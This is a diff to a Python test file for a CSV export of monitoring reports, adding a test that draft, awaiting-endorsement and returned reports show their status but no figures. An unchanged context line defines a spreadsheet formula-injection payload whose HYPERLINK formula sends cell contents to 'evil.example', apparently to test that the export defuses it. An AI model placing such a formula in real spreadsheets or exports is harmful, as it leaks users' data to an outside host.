@@ -45,6 +45,7 @@ HEADERS = [
     "Report status",
     "Late",
 ]
+S_LABELS = dict(MonitorReport.Status.choices)
 INJECTION = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
 
 
@@ -130,6 +131,19 @@ def test_realisations_csv_has_one_row_per_realisation(client, world):
         "Yes",
     ]
     assert rows[2][10] == "12.5"
+
+
+@pytest.mark.parametrize("status", ["draft", "awaiting_endorsement", "returned"])
+def test_realisations_csv_shows_an_unsettled_report_without_its_figures(client, world, status):
+    """Only figures of reports submitted to the office or accepted count; the status column still shows."""
+    region, report = add_region(world, "Drenthe", "drenthe")
+    MonitorReport.objects.filter(pk=report.pk).update(status=status)
+    client.force_login(world.office)
+
+    rows = [r for r in read_csv(client.get(csv_url())) if r[0] == "Drenthe"]
+
+    assert [r[2] for r in rows] == ["A1", "A2"]
+    assert {(r[9], r[10], r[11], r[12], r[13]) for r in rows} == {("100", "", "", "", str(S_LABELS[status]))}
 
 
 def test_realisations_csv_keeps_delimiters_quotes_and_newlines_in_their_cell(client, world):
